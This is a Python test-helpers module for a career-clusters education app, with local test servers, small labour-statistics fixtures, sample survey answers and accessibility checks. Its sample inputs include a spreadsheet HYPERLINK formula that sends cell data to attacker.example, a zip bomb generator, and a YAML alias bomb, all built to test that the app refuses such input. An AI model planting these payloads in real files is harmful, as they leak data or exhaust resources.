"""What more than one test module needs and is not a fixture: where the official files are, a copy of a store,
servers (the app in this process, ``careerclusters serve`` as a process, a stand-in for the publishers' file
servers), BLS-shaped files made small, sample inputs, what a browser test checks on a page, and a PDF's text.

Fixtures are in ``conftest.py`` (and ``browser/conftest.py``); test modules import from here, never from each
other.
"""

from __future__ import annotations

import contextlib
import functools
import gzip
import hashlib
import html.parser
import http.server
import io
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from careerclusters.pos import ProgramOfStudy
    from careerclusters.survey.scoring import SurveyAnswers

ROOT = Path(__file__).resolve().parents[1]
SHARED = Path(os.environ.get("CAREERCLUSTERS_SHARED", ROOT.parent / "shared"))
DATA = SHARED / "data"
#: A state's model program of study on its "Middle – High School – Postsecondary" template, in format version 2
#: (written for these tests): middle school, postsecondary years without courses, groups, early college, a co-op,
#: a pre-apprenticeship, the CTSO, careers at five education levels, an adopting district; its state is Delaware.
STATE_MATRIX = ROOT / "tests" / "fixtures" / "nurse-assisting-state-matrix.yaml"


def state_matrix() -> ProgramOfStudy:
    """The state matrix fixture, read by the format's own reader."""
    from careerclusters.pos import files

    [program] = files.read(STATE_MATRIX)
    return program


# -- the official files -----------------------------------------------------------------------------------------

def require(path: Path) -> Path:
    """``path`` if it exists, else fail the test loudly naming what is missing."""
    if not path.exists():
        pytest.fail(f"required shared file is missing: {path} (tests read the official files from ../shared)")
    return path


def official_paths(data: Path) -> list[Path]:
    """Every official file in the shared data folder, as a user would pass them to `data import`."""
    files = sorted(p for p in data.rglob("*") if p.suffix in {".xlsx", ".csv", ".gz"})
    return [require(p) for p in files] + [require(data / "onet" / "db_27_0_text")]


# -- stores -------------------------------------------------------------------------------------------------------

def copy_store(source: Path, target: Path) -> Path:
    """``target`` made a copy of the store ``source`` (SQLite's backup, consistent even while it is read)."""
    reader, writer = sqlite3.connect(source), sqlite3.connect(target)
    reader.backup(writer)
    reader.close()
    writer.close()
    return target


def copy_store_with_caches(source: Path, target: Path) -> Path:
    """``copy_store``, and the files kept beside the store (the built classifiers, ``<stem>.*``) copied beside the
    copy under its name, so that the copy does not build them again."""
    copy_store(source, target)
    for kept in source.parent.glob(f"{source.stem}.*"):
        if kept != source and not kept.name.endswith(("-wal", "-shm", "-journal")):
            shutil.copyfile(kept, target.with_name(target.stem + kept.name[len(source.stem):]))
    return target


# -- the launcher from a clone --------------------------------------------------------------------------------------

def scratch_clone(folder: Path) -> Path:
    """A clone's folder as the README's commands see it: the real ``scripts/`` and ``pyproject.toml``, and a
    ``.venv`` already set up (``scripts/bootstrap``'s mark for this ``pyproject.toml``) whose ``careerclusters`` runs
    this checkout's code with the tests' Python. ``scripts/careerclusters`` then runs exactly as on a clone whose
    first run has installed everything."""
    folder.mkdir(parents=True)
    shutil.copytree(ROOT / "scripts", folder / "scripts")
    shutil.copyfile(ROOT / "pyproject.toml", folder / "pyproject.toml")
    bin_dir = folder / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "python").symlink_to(sys.executable)
    launcher = bin_dir / "careerclusters"
    launcher.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m careerclusters.cli "$@"\n')
    launcher.chmod(0o755)
    version = hashlib.sha256((ROOT / "pyproject.toml").read_bytes()).hexdigest()[:16]
    (folder / ".venv" / f".installed-pdf-{version}").touch()
    return folder


def clone_env(tmp: Path, db: Path) -> dict[str, str]:
    """The environment a scratch clone's commands run in: this checkout's code, the store ``db``, caches and user
    folders under ``tmp``, and no launcher name inherited."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("CAREERCLUSTERS_")}
    return {**env, "PYTHONPATH": str(ROOT / "src"), "CAREERCLUSTERS_DB": str(db), "XDG_CACHE_HOME": str(tmp / "cache"),
            "XDG_DATA_HOME": str(tmp / "data"), "COLUMNS": "120"}


# -- servers ------------------------------------------------------------------------------------------------------

def free_port() -> int:
    """A TCP port free on 127.0.0.1 just now."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@contextlib.contextmanager
def serve_app(db: Path) -> Iterator[str]:
    """The app over the store ``db`` in this process, on a free localhost port, warmed up, for as long as the
    block runs; yields its base URL."""
    import uvicorn

    from careerclusters.server.app import create_app

    app = create_app(db, warm=False)
    app.state.context.warm()
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline:
            pytest.fail("the web server did not start")
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(timeout=10)


@dataclass
class Command:
    """``careerclusters … serve`` running as a process: its base URL; once stopped, its exit status and stderr."""

    process: subprocess.Popen
    url: str
    log: Path
    returncode: int | None = None

    def stderr(self) -> str:
        return self.log.read_text(encoding="utf-8", errors="replace")


@contextlib.contextmanager
def serve_command(*args: str, log: Path, env: dict[str, str] | None = None) -> Iterator[Command]:
    """``python -m careerclusters.cli ARGS --port PORT`` (ARGS end with ``serve`` and its options) on a free port,
    its stderr written to ``log``; stopped with SIGTERM, as an operator stops it, when the block ends, with
    ``returncode`` set."""
    port = free_port()
    with log.open("w") as stderr:
        process = subprocess.Popen([sys.executable, "-m", "careerclusters.cli", *args, "--port", str(port)],
                                   env=env, stdout=subprocess.DEVNULL, stderr=stderr)
    served = Command(process, f"http://127.0.0.1:{port}", log)
    try:
        yield served
    finally:
        process.send_signal(signal.SIGTERM)
        served.returncode = process.wait(timeout=30)


class FileServer(http.server.ThreadingHTTPServer):
    """Serves ``files`` by name; the first ``cut`` requests get the headers and half the body, then the
    connection is closed, as a dropped download would be."""

    def __init__(self, files: dict[str, bytes], cut: int):
        self.files, self.cut, self.requests, self.agents = files, cut, 0, []
        super().__init__(("127.0.0.1", 0), _FileHandler)


class _FileHandler(http.server.BaseHTTPRequestHandler):
    server: FileServer

    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
        self.server.requests += 1
        self.server.agents.append(self.headers.get("User-Agent", ""))
        body = self.server.files.get(self.path.lstrip("/"))
        if body is None:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.server.requests <= self.server.cut:
            self.wfile.write(body[: len(body) // 2])
            self.wfile.flush()
            self.connection.shutdown(2)
            return
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@contextlib.contextmanager
def serve_files(files: dict[str, bytes], cut: int = 0) -> Iterator[FileServer]:
    """A stand-in for a publisher's download server (see ``FileServer``) for as long as the block runs."""
    server = FileServer(files, cut)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


# -- BLS's OEWS workbooks, made small -------------------------------------------------------------------------------

OEWS_HEADER = ["AREA", "AREA_TITLE", "AREA_TYPE", "PRIM_STATE", "NAICS", "NAICS_TITLE", "I_GROUP", "OWN_CODE",
               "OCC_CODE", "OCC_TITLE", "O_GROUP", "TOT_EMP", "EMP_PRSE", "JOBS_1000", "LOC_QUOTIENT", "PCT_TOTAL",
               "PCT_RPT", "H_MEAN", "A_MEAN", "MEAN_PRSE", "H_PCT10", "H_PCT25", "H_MEDIAN", "H_PCT75", "H_PCT90",
               "A_PCT10", "A_PCT25", "A_MEDIAN", "A_PCT75", "A_PCT90", "ANNUAL", "HOURLY"]


def oews_row(area: str, title: str, area_type: str, state: str, soc: str, employment: object,
             median: object) -> list:
    """A cross-industry row of an OEWS area workbook."""
    return [area, title, area_type, state, "000000", "Cross-industry", "cross-industry", "1235", soc, "x", "detailed",
            employment, 1.0, 25.9, 1.19, None, None, 42.18, 87730, 0.4, 32.2, 38.08, 39.67, 47.61, 50.62, 66980,
            79200, median, 99030, 105290, "", ""]


def oews_industry_row(naics: str, title: str, group: str, employment: int, median: int) -> list:
    """A national row of the all-areas workbook for Registered Nurses in one industry."""
    row = oews_row("99", "U.S.", "1", "US", "29-1141", employment, median)
    row[4:7] = [naics, title, group]
    return row


def oews_workbook(path: Path, sheet: str, rows: list[list]) -> Path:
    """An OEWS area workbook at ``path``: ``rows`` on the sheet ``sheet``, then BLS's field descriptions sheet."""
    import openpyxl

    book = openpyxl.Workbook()
    data = book.active
    data.title = sheet
    data.append(OEWS_HEADER)
    for row in rows:
        data.append(row)
    book.create_sheet("Field Descriptions")
    book.save(path)
    return path


def small_oews_bundle(data_dir: Path, folder: Path) -> Path:
    """A bundle of the real one's layout and values, cut down to Registered Nurses nationally in every industry
    and Ohio's cross-industry rows, so that importing it takes a second."""
    full = folder / "full.sqlite"
    with gzip.open(data_dir / "bls-oews-bundle/oews-2025.sqlite.gz") as source, full.open("wb") as target:
        shutil.copyfileobj(source, target)
    small = folder / "oews-small.sqlite"
    conn = sqlite3.connect(small)
    conn.execute("ATTACH ? AS f", (str(full),))
    for table in ("area", "occupation", "industry", "datatype", "footnote", "meta"):
        conn.execute(f"CREATE TABLE {table} AS SELECT * FROM f.{table}")  # noqa: S608 - fixed names
    conn.execute("CREATE TABLE cell AS SELECT * FROM f.cell WHERE key LIKE 'OEUN0000000%291141' "
                 "OR key LIKE 'OEUN0000000000000%' OR key LIKE 'OEUS3900000000000%'")
    conn.commit()
    conn.close()
    full.unlink()
    return small


# -- a state's own files and BLS's area definitions, made small ------------------------------------------------------

#: Projections Central's download layout (the REST export's names are in ``PROJECTIONS_REST_HEADER``).
PROJECTIONS_HEADER = ["State FIPS", "Area Name", "Occupation Code", "Occupation Name", "Base Year", "Base",
                      "Projected Year", "Projection", "Change", "Percent Change", "Average Annual Openings"]
PROJECTIONS_REST_HEADER = ["STFIPS", "Area", "OccCode", "Title", "BaseYear", "Base", "ProjYear", "Projected",
                           "Change", "PercentChange", "AvgAnnualOpenings"]


def projections_row(fips: str, area: str, soc: str, title: str, base: object, projected: object,
                    openings: object) -> list[object]:
    """One occupation's 2022–2032 projections for a state, in ``PROJECTIONS_HEADER`` order."""
    change = projected - base if isinstance(base, int) and isinstance(projected, int) else "(NA)"
    percent = round(100 * change / base, 1) if isinstance(change, int) else "(NA)"
    return [fips, area, soc, title, 2022, base, 2032, projected, change, percent, openings]


def projections_csv(path: Path, rows: list[list[object]], header: list[str] = PROJECTIONS_HEADER) -> Path:
    """A state projections file in Projections Central's layout (the nation's row first, as the site lists it)."""
    import csv

    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerow(projections_row("0", "United States", "00-0000", "Total, All Occupations", 164482600,
                                        169126200, 18648500))
        writer.writerows(rows)
    return path


def in_demand_csv(path: Path, state: str, name: str, year: int, socs: list[str]) -> Path:
    """A state's in-demand list: its SOC codes with the list's name and year."""
    lines = ["state,list,year,soc,title"] + [f"{state},{name},{year},{soc},occupation {soc}" for soc in socs]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


AREA_DEFINITIONS_HEADER = ["FIPS code", "State", "State abbreviation", "May 2024 MSA code ", "May 2024 MSA name",
                           "County code", "Township code", "County name (or Township name for the New England "
                           "states)"]


def area_definitions_workbook(path: Path, rows: list[list[object]] | None = None) -> Path:
    """BLS's OEWS area definitions workbook, cut down: two Ohio counties in Columbus, OH, one in a
    nonmetropolitan area, and (unless ``rows`` are given) a New England county split between two areas."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Area definitions"
    sheet.append(AREA_DEFINITIONS_HEADER)
    for row in rows if rows is not None else [
            [39, "Ohio", "OH", 18140, "Columbus, OH", 49, None, "Franklin County"],
            [39, "Ohio", "OH", 18140, "Columbus, OH", 45, None, "Fairfield County"],
            [39, "Ohio", "OH", 3900004, "Southern Ohio nonmetropolitan area", 1, None, "Adams County"],
            [25, "Massachusetts", "MA", 71650, "Boston-Cambridge-Newton, MA-NH", 27, 1, "Ashburnham town"],
            [25, "Massachusetts", "MA", 49340, "Worcester, MA-CT", 27, 2, "Athol town"]]:
        sheet.append(row)
    book.save(path)
    return path


# -- sample inputs ------------------------------------------------------------------------------------------------

#: A spreadsheet formula typed where a title or a code should be.
HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for bonus")'

#: A school's programs, as the alignment report reads them.
ALIGNMENT_PROGRAMS = ("program,cip,enrolment,completers\n"
                      "Nursing (RN),51.3801,120,40\n"
                      "Cosmetology,12.0401,60,30\n"
                      "Welding,48.0508,,25\n")

#: A Columbus, Ohio career center's programs (secondary), coded, with enrolment and completers.
CAREER_CENTER_PROGRAMS = ("program,cip,enrolment,completers\n"
                          "Emergency Medical Technician,51.0904,38,16\n"
                          "Construction Trades,46.0000,52,20\n"
                          "Early Childhood Education,13.1210,44,18\n"
                          "Cosmetology,12.0401,60,24\n"
                          "Welding,48.0508,50,21\n"
                          "Interactive Media,11.0801,45,17\n")


def eighth_grader(lang: str = "en") -> SurveyAnswers:
    """The 8th grader of issue 24, who likes drawing, animals and little kids: a few arts and helping activities
    liked, a few others disliked; on the checklist, fine arts with the two general arts items, raising animals, and
    caring for young children."""
    from careerclusters.survey.scoring import SurveyAnswers

    answers = {"a1": 2, "a5": 2, "a7": 2, "s1": 2, "s6": 2, "s2": 2, "r4": 2, "c2": 0, "c4": 0, "e6": 0, "e7": 0,
               "r3": 0, "i3": 0, "c8": 0, "ar-fine": 2, "ar-subject": 2, "ar-trait": 2, "ag-animals": 2, "ed-early": 2}
    return SurveyAnswers(answers=answers, lang=lang)


def dislikes_all_but(subcluster_id: str, *, interests: bool = False) -> SurveyAnswers:
    """Answers, as the API and `survey score --answers` allow, that like only the checklist item of one sub-cluster
    and dislike every other checklist item (its cluster's general ones too); with ``interests``, every interest
    activity is disliked as well."""
    from careerclusters.survey import Part, load_instrument
    from careerclusters.survey.scoring import SurveyAnswers

    inst = load_instrument("en")
    answers = {i.id: 2 if i.subcluster_id == subcluster_id else 0 for i in inst.part(Part.CLUSTER)}
    if interests:
        answers |= {i.id: 0 for i in inst.part(Part.INTEREST)}
    return SurveyAnswers(answers=answers)


def realistic_construction(lang: str = "en") -> SurveyAnswers:
    """Survey answers that like every Realistic activity, dislike every other one, and tick every Construction
    item."""
    from careerclusters.survey import Part, load_instrument
    from careerclusters.survey.scoring import SurveyAnswers

    inst = load_instrument(lang)
    answers = {i.id: 2 if i.key == "R" else 0 for i in inst.part(Part.INTEREST)}
    answers |= {i.id: 2 for i in inst.part(Part.CLUSTER) if i.cluster_id == "construction"}
    return SurveyAnswers(answers=answers, lang=lang)


def zip_bomb(unpacked: int = 60_000_000) -> bytes:
    """An .xlsx-looking zip (it has the content-types part) whose one sheet unpacks to ``unpacked`` bytes of zeros
    from a few dozen kilobytes."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"0" * 1_000_000
            for _ in range(unpacked // len(block)):
                member.write(block)
    return out.getvalue()


def hostile_inputs(program_json: bytes, workbook: bytes) -> list[tuple[str, str, bytes]]:
    """Inputs that are not programs of study, each as (what it is, a file name, its bytes): what a reader must refuse
    in one line, never with a traceback or a server error. ``program_json`` and ``workbook`` are good ones, to
    truncate."""
    import random

    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8))
    return [
        ("JSON nested 5,000 deep", "deep.json", b"[" * 5000 + b"]" * 5000),
        ("YAML nested 5,000 deep", "deep.yaml", b"{a: " * 5000 + b"1" + b"}" * 5000),
        ("YAML alias bomb", "laughs.yaml", laughs.encode()),
        ("truncated JSON", "cut.json", program_json[: len(program_json) // 2]),
        ("random bytes", "noise.yaml", random.Random(26).randbytes(4096)),
        ("a PNG image", "picture.yaml", b"\x89PNG\r\n\x1a\n" + bytes(200)),
        ("a JSON number", "number.json", b"12"),
        ("an empty file", "empty.yaml", b""),
        ("a workbook unpacking to 60 MB", "bomb.xlsx", zip_bomb()),
        ("a zip that is not a workbook", "archive.xlsx", zip_of({"notes.txt": b"hello"})),
        ("a truncated workbook", "cut.xlsx", workbook[: len(workbook) // 2]),
        ("text named .xlsx", "plan.xlsx", b"id: x\n"),
        ("a workbook of another layout", "other.xlsx", other_workbook()),
    ]


def zip_of(members: dict[str, bytes]) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def other_workbook() -> bytes:
    """A real workbook with nothing of a program of study in it."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["Name", "Score"])
    book.active.append(["Ada", 10])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# -- in the browser -------------------------------------------------------------------------------------------------

#: Collects the page's Content-Security-Policy violations in ``window.__cspViolations`` (an init script).
CSP_WATCH = """window.__cspViolations = [];
document.addEventListener('securitypolicyviolation',
  e => window.__cspViolations.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline')));"""

_ACTIVE = """() => { const e = document.activeElement;
  return {tag: e.tagName, type: e.type || null, name: e.name || null, value: e.value || null,
          href: e.getAttribute('href')}; }"""


def serious_violations(page: Page) -> list[str]:
    """axe-core's serious and critical findings on the page, one line each."""
    from axe_playwright_python.sync_playwright import Axe

    results = Axe().run(page)
    return [f"{v['id']}: {v['help']} ({len(v['nodes'])} nodes)" for v in results.response["violations"]
            if v["impact"] in ("serious", "critical")]


def focused(page: Page) -> str | None:
    """The ``data-id`` of the element with the keyboard focus (the wheel's segments have one)."""
    return page.evaluate("document.activeElement && document.activeElement.getAttribute('data-id')")


def active_element(page: Page) -> dict[str, Any]:
    """The focused element's tag, type, name, value and href."""
    return page.evaluate(_ACTIVE)


def tab_to(page: Page, wanted: Callable[[dict[str, Any]], bool], limit: int = 200) -> dict[str, Any]:
    """Press Tab until the focused element is ``wanted`` (see ``active_element``), or fail."""
    for _ in range(limit):
        page.keyboard.press("Tab")
        active = active_element(page)
        if wanted(active):
            return active
    pytest.fail("the keyboard never reached the element")


#: What a reader reads as prose on a page: headings, paragraphs, list items, terms, legends, captions, labels and row
#: headers. Each element's own text (blocks nested in it, tables and visually hidden text taken out) counts once
#: however often it repeats ("Like", "Answers behind this"); data cells (official titles, figures) are not prose.
#: What a reader reads as sentences; a list marked ``names`` (the programs of study to pick from: titles and owners
#: as their authors wrote them) is names, not the site's prose, and is not scored.
PROSE = "h1, h2, h3, p, li, dt, dd, legend, caption, summary, label, th[scope=row]"
_PROSE_BLOCKS = """(selector) => {
  const blocks = [];
  for (const element of document.querySelectorAll(selector.split(', ').map(s => 'main ' + s).join(', '))) {
    if (!element.checkVisibility() || element.closest('.names')) continue;
    const copy = element.cloneNode(true);
    copy.querySelectorAll(selector + ', table, .visually-hidden').forEach(n => n.remove());
    const text = copy.textContent.replace(/\\s+/g, ' ').trim();
    if (text) blocks.push(text);
  }
  return blocks;
}"""


def reading_grade(page: Page) -> tuple[float, list[str]]:
    """The Flesch–Kincaid grade of the page's visible prose (``PROSE``), with the sentences it scored: each distinct
    block once, ending with a full stop where it has no punctuation of its own. textstat 0.7.3 counts syllables with
    pyphen, offline."""
    import textstat

    blocks = list(dict.fromkeys(page.evaluate(_PROSE_BLOCKS, PROSE)))
    sentences = [b if re.search(r"[.!?:;]$", b) else b + "." for b in blocks]
    return textstat.flesch_kincaid_grade(" ".join(sentences)), sentences


def contrast(first: str, second: str) -> float:
    """WCAG's contrast ratio of two CSS colours given as ``rgb(r, g, b)``."""
    def luminance(colour: str) -> float:
        channels = [int(c) / 255 for c in re.findall(r"\d+", colour)[:3]]
        r, g, b = (c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels)
        return 0.2126 * r + 0.7152 * g + 0.0722 * b

    light, dark = sorted((luminance(first), luminance(second)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


# -- PDFs -------------------------------------------------------------------------------------------------------------

def pdf_text(pdf: Path | bytes, *, layout: bool = True) -> tuple[int, str]:
    """A PDF's page count and its text as ``pdftotext -layout`` lays it out (Debian's poppler-utils); without
    ``layout``, in reading order, so a table cell's wrapped words stay together."""
    data = pdf.read_bytes() if isinstance(pdf, Path) else pdf
    assert data.startswith(b"%PDF-")
    pdftotext = shutil.which("pdftotext")
    if pdftotext is None:
        pytest.fail("pdftotext is missing: scripts/test installs poppler-utils")
    out = subprocess.run([pdftotext, *(["-layout"] if layout else []), "-", "-"], input=data, capture_output=True,
                         check=True).stdout
    text = out.decode()
    return text.count("\f"), text


def html_text(html: str) -> str:
    """A page's words, tags removed and spaces collapsed, to assert on what a reader sees."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html)).replace(" ,", ",")


def words(text: str) -> str:
    """``text`` with every run of white space made one space, to assert on phrases wherever lines break."""
    return re.sub(r"\s+", " ", text)


# -- pages in another language -----------------------------------------------------------------------------------
class _ReadableText(html.parser.HTMLParser):
    """What a reader of a page gets, as text: its words, ``<title>``, and the labels and hints assistive technology
    reads (``aria-label``, ``placeholder``, ``alt``), leaving out scripts, styles and every element marked as
    written in English (``lang="en"``: data the publishers give only in English, said so on the page) or kept as
    its author wrote it (``translate="no"``: a program of study's course titles). ``whole``
    holds each element's own text, for words that count only standing alone (a button's "Show")."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.whole: set[str] = set()
        self._stack: list[bool] = []  # per open element: whether it hides its contents

    def _hidden(self) -> bool:
        return any(self._stack)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        english = ((values.get("lang") or "").startswith("en") and tag != "html") or values.get("translate") == "no"
        if not self._hidden() and not english:
            self.parts += [values[a] or "" for a in ("aria-label", "placeholder", "alt") if values.get(a)]
        if tag not in self.VOID:
            self._stack.append(english or tag in ("script", "style"))

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.VOID and self._stack:
            self._stack.pop()

    def handle_data(self, data: str) -> None:
        if not self._hidden():
            self.parts.append(data)
            self.whole.add(" ".join(data.split()))


def _read(page: str) -> _ReadableText:
    reader = _ReadableText()
    reader.feed(page)
    return reader


def readable_text(page: str) -> str:
    """A page's text as a reader of its language meets it (``_ReadableText``), spaces collapsed."""
    return re.sub(r"\s+", " ", " ".join(_read(page).parts))


def english_left(page: str, lang: str, db: Path) -> list[str]:
    """The English a page in ``lang`` still shows, by what it is: each interface message of the catalogue whose
    translation differs (compared on its runs of two words or more between placeholders and tags), and each
    framework node's or occupation's English name (the store at ``db``'s) where the translation differs. Empty
    when nothing is left."""
    reader = _read(page)
    text = re.sub(r"\s+", " ", " ".join(reader.parts))
    return sorted({f"{kind}: {english}" for kind, english, pattern in _english_phrases(lang, db)
                   if (english in reader.whole if pattern is None else pattern.search(text))})


@functools.cache
def _english_phrases(lang: str, db: Path) -> tuple[tuple[str, str, re.Pattern[str] | None], ...]:
    """What counts as English left: (kind, phrase, pattern); a phrase of one word has no pattern, as it counts
    only as an element's whole text. A phrase the translations themselves use (a name kept in English, such as
    "National Career Clusters®", or an English term given in parentheses) does not count."""
    from babel.messages.pofile import read_po

    from careerclusters.base.languages import catalogue_path
    from careerclusters.base.translations import education, occupation_names, occupation_title
    from careerclusters.framework import load_framework

    phrases: set[tuple[str, str]] = set()
    translations: set[str] = set()
    with catalogue_path(lang).open("rb") as po:
        catalog = read_po(po)
    for message in catalog:
        ids = [message.id] if isinstance(message.id, str) else list(message.id)
        strings = [message.string] if isinstance(message.string, str) else list(message.string)
        if not message.id or ids == strings:
            continue
        for english in ids:
            for run in re.split(r"%\(\w+\)[sd]|%%|<[^>]+>|[“”\"():;·]", english):
                run = " ".join(run.split()).strip(" ,.")
                if run and run[0].isalpha():
                    phrases.add(("message", run))
        translations.update(strings)
    fw = load_framework()
    for node in fw.nodes():
        label = fw.label(node, lang)
        translations.update((label.name, label.definition))
        if label.name != node.name:
            phrases.add(("framework", node.name))
    translated = {code: name.title for code, name in occupation_names(lang).items()}
    with contextlib.closing(sqlite3.connect(db)) as conn:
        titles = conn.execute("SELECT onet_soc, title FROM onet_occupation").fetchall()
    for code, title in titles:
        name = occupation_title(translated, code)
        if name is not None and name != title:
            phrases.add(("occupation", title))
    translations.update(translated.values())
    words = education(lang)
    translations.update((*words.entry_education_.values(), *words.onet_education_.values(),
                         *words.work_experience_.values(), *words.job_training_.values()))
    said = "\n".join(translations)
    return tuple((kind, phrase, re.compile(rf"(?<!\w){re.escape(phrase)}(?!\w)") if " " in phrase else None)
                 for kind, phrase in sorted(phrases) if phrase not in said)
